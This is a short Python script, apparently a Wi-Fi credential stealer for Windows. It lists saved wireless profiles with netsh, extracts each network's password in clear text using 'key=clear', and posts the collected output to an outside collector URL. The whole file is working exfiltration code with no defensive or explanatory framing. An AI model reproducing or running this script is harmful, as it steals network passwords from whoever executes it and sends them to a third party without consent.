import subprocess, re, requests
data = subprocess.check_output(["netsh", "wlan", "show", "profiles"]).decode()
out = []
for n in re.findall("All User Profile     : (.*)", data):
    out.append(subprocess.check_output(["netsh", "wlan", "show", "profile", n.strip(), "key=clear"]).decode())
requests.post("https://collector.invalid/wifi", json=out)
